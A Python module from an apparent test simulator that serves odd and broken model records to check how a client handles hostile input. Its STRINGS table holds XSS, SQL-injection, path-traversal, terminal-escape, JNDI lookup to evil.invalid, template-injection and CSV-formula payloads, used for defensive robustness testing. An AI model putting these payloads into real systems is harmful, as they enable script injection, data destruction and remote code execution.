"""Records that attack whoever reads them: odd but valid models, and records that are simply broken."""

from __future__ import annotations

import json
from collections.abc import Iterator

from simhub.clock import DAY0, digest, iso
from simhub.faults import Faults
from simhub.population import Counters
from simhub.spec import Spec
from simhub.store import Store

#: (id, words in the tag list): every string is data and must stay data.
STRINGS: tuple[tuple[str, str], ...] = (
    ("hostile/html", "<script>alert('x')</script><img src=x onerror=alert(1)>"),
    ("hostile/sql", "'; DROP TABLE model; --"),
    ("hostile/terminal", "\x1b[2J\x1b]0;owned\x07\x1b[31mred"),
    ("../../etc/passwd", "../../../../etc/shadow"),
    ("hostile/format", "%s%s%n{0.__class__}${jndi:ldap://evil.invalid}{{7*7}}"),
    ("hostile/nul", "before\x00after"),
    ("hostile/bidi", "\u202egnp.exe\u200b\ufeff"),
    ("hostile/csv", '=cmd|"/c calc"!A1'),
    ("hostile/long", "x" * 1_000_000),
    ("hostile/quote\"'`\\name", "a,b\tc\r\nd"),
)


def extra_models(store: Store, faults: Faults) -> None:
    """Add the extra models a fault spec asks for; their truth is in the store like any other's."""
    if not (faults.hostile or faults.bigcard) or store.get("extras"):
        return
    store.put("extras", "1")
    store.add(_extras(store.next_ordinal(), faults), store.day)


def _extras(ordinal: int, faults: Faults) -> Iterator[tuple[Spec, Counters]]:
    wanted = [(name, word, "hostile") for name, word in STRINGS] if faults.hostile else []
    wanted += [(f"bigcard/model-{n}", "big", "big") for n in range(faults.bigcard)]
    for number, (name, word, card) in enumerate(wanted, start=ordinal):
        oid = f"{DAY0:08x}{digest('extra', length=10)}{number:06x}"
        spec = Spec(number, oid, name, iso(DAY0 - 60), iso(DAY0 - 30), seed=number, card=card)
        spec.licences, spec.words, spec.commits = ["mit"], [word], 2
        yield spec, Counters(1, 0, 1, 0)


def bad_records(store: Store, faults: Faults) -> None:
    """Plan the persistent bad records: each is served right after an anchor model, on whatever page it is."""
    store.db.execute("DELETE FROM bad")
    wanted = [kind for kind in ("noid", "notobject", "wrongtype", "badutf8") for _ in range(getattr(faults, kind))]
    if not wanted:
        return
    anchors = [row[0] for row in store.db.execute("SELECT ordinal FROM state WHERE private = 0 ORDER BY ordinal")]
    for number, kind in enumerate(wanted):
        anchor = anchors[(number + 1) * len(anchors) // (len(wanted) + 1)]
        store.db.execute("INSERT INTO bad VALUES (?,?,?,?)", (number, kind, anchor, bad_body(kind, number)))


def bad_body(kind: str, number: int) -> bytes:
    """A broken record as it is sent."""
    oid = digest("bad", number, length=24)
    if kind == "noid":
        return json.dumps({"likes": 0, "private": False, "downloads": 3, "tags": ["region:us"]}).encode()
    if kind == "notobject":
        return json.dumps(("just a string", 42, None, ["a", "list"])[number % 4]).encode()
    if kind == "wrongtype":
        odd = {"_id": oid, "id": f"bad/wrong-types-{number}", "tags": "not-a-list", "downloads": "12"}
        return json.dumps({**odd, "likes": {"n": 1}, "private": "no", "createdAt": 17}).encode()
    return b'{"_id":"%s","id":"bad/utf8-%d","downloads":0,"likes":0,"tags":["caf\xe9 \xff"]}' % (oid.encode(), number)
